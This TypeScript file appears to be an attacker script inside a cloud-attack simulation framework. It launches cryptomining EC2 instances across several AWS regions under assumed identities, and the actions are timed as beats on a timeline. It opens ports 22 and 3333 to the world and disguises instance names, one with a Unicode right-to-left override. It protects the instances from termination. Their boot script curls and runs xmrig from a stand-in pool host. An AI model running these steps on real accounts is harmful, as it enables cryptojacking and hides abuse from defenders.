import {
	AuthorizeSecurityGroupIngressCommand,
	CreateKeyPairCommand,
	CreateSecurityGroupCommand,
	DescribeImagesCommand,
	EC2Client,
	ModifyInstanceAttributeCommand,
	RunInstancesCommand,
	type RunInstancesCommandInput,
} from '@aws-sdk/client-ec2';
import type {Actor, Hand, Intent} from '../../actors/actor.ts';
import type {Beat} from '../../actors/timeline.ts';
import {networkOf} from '../../services/ec2/network.ts';
import {type MINES, NAMES} from './cast.ts';

type Machine = RunInstancesCommandInput['InstanceType'];

/** One region's worth of mining: who starts it, what, and how it is guarded (field guide §12). */
interface Mine {
	readonly region: (typeof MINES)[number];
	readonly by: string;
	readonly type: Machine;
	readonly count: number;
	readonly name: string;
	/** `start`: protected from the start; `after`: by ModifyInstanceAttribute. */
	readonly guard?: 'start' | 'after';
}

const PLAN: readonly Mine[] = [
	{region: 'us-east-1', by: NAMES.key, type: 'g4dn.12xlarge', count: 3, name: 'build-runner'},
	{region: 'us-east-2', by: NAMES.key, type: 'c6i.16xlarge', count: 2, name: 'build-runner'},
	{region: 'us-west-2', by: 'session', type: 'g5.12xlarge', count: 2, name: 'gpu-batch', guard: 'start'},
	// A bidirectional override: shown as it is, the name reads backwards from there on.
	{region: 'eu-west-1', by: 'deploy-role', type: 'g5.12xlarge', count: 2, name: 'web-\u202eexe.dorp\u202c-1'},
	{
		region: 'ap-northeast-1',
		by: 'backdoor',
		type: 'c6i.24xlarge',
		count: 2,
		name: 'gpu-batch',
		guard: 'after',
	},
	{region: 'eu-central-2', by: 'federation', type: 'g4dn.12xlarge', count: 1, name: 'cache-warmer'},
];

/** What the machines do at boot. The pool does not exist. */
const USER_DATA = Buffer.from(
	'#!/bin/bash\ncurl -sL https://pool.example.invalid/xmrig.tar.gz | tar xz -C /tmp\n/tmp/xmrig -o pool.example.invalid:443 --donate-level 0 &\n',
).toString('base64');

/** Security group, key pair, the greedy try, the machines: region by region. */
export function mine(attacker: Actor): Beat[] {
	return PLAN.flatMap((each, index) => {
		const steps = [
			prepare(each),
			greedy(each),
			start(each),
			...(each.guard === 'after' ? [guard(each)] : []),
		];
		return steps.map((intent, step) => ({
			ago: 131 - index * 5 - step * 0.6,
			run: () => attacker.attempt(intent),
		}));
	});
}

function prepare({region, by}: Mine): Intent {
	return {
		by,
		async act(hand) {
			const ec2 = hand.client(EC2Client, region);
			await ec2.send(
				new DescribeImagesCommand({
					Owners: ['amazon'],
					Filters: [{Name: 'architecture', Values: ['x86_64']}],
				}),
			);
			await ec2.send(new CreateKeyPairCommand({KeyName: 'default-ssh'}));
			const {GroupId} = await ec2.send(
				new CreateSecurityGroupCommand({
					GroupName: 'launch-wizard-7',
					Description: 'launch-wizard-7 created by console',
				}),
			);
			await ec2.send(
				new AuthorizeSecurityGroupIngressCommand({
					GroupId,
					IpPermissions: [
						{IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{CidrIp: '0.0.0.0/0'}]},
						{IpProtocol: 'tcp', FromPort: 3333, ToPort: 3333, IpRanges: [{CidrIp: '0.0.0.0/0'}]},
					],
				}),
			);
		},
	};
}

/** First the largest there is: the account has no quota for it, and the trail shows the appetite. */
function greedy({region, by}: Mine): Intent {
	return {by, alone: true, act: hand => launch(hand, region, {InstanceType: 'p4d.24xlarge', MaxCount: 4})};
}

function start({region, by, type, count, name, guard}: Mine): Intent {
	return {
		by,
		act: hand =>
			launch(hand, region, {
				InstanceType: type,
				MaxCount: count,
				KeyName: 'default-ssh',
				SecurityGroups: ['launch-wizard-7'],
				DisableApiTermination: guard === 'start',
				TagSpecifications: [{ResourceType: 'instance', Tags: [{Key: 'Name', Value: name}]}],
			}),
	};
}

function guard({region, by}: Mine): Intent {
	return {
		by,
		act: async hand => {
			for (const InstanceId of hand.madeIn(region)) {
				await hand
					.client(EC2Client, region)
					.send(new ModifyInstanceAttributeCommand({InstanceId, DisableApiTermination: {Value: true}}));
			}
		},
	};
}

/** Starts machines and tells the truth about them. */
export async function launch(
	hand: Hand,
	region: string,
	input: Partial<RunInstancesCommandInput>,
): Promise<void> {
	const {Instances = []} = await hand.client(EC2Client, region).send(
		new RunInstancesCommand({
			ImageId: networkOf(region).images[0].id,
			MinCount: 1,
			MaxCount: 1,
			UserData: USER_DATA,
			InstanceInitiatedShutdownBehavior: 'terminate',
			...input,
		}),
	);
	for (const {InstanceId = ''} of Instances) {
		hand.made('ec2-instance', InstanceId, region);
	}
}
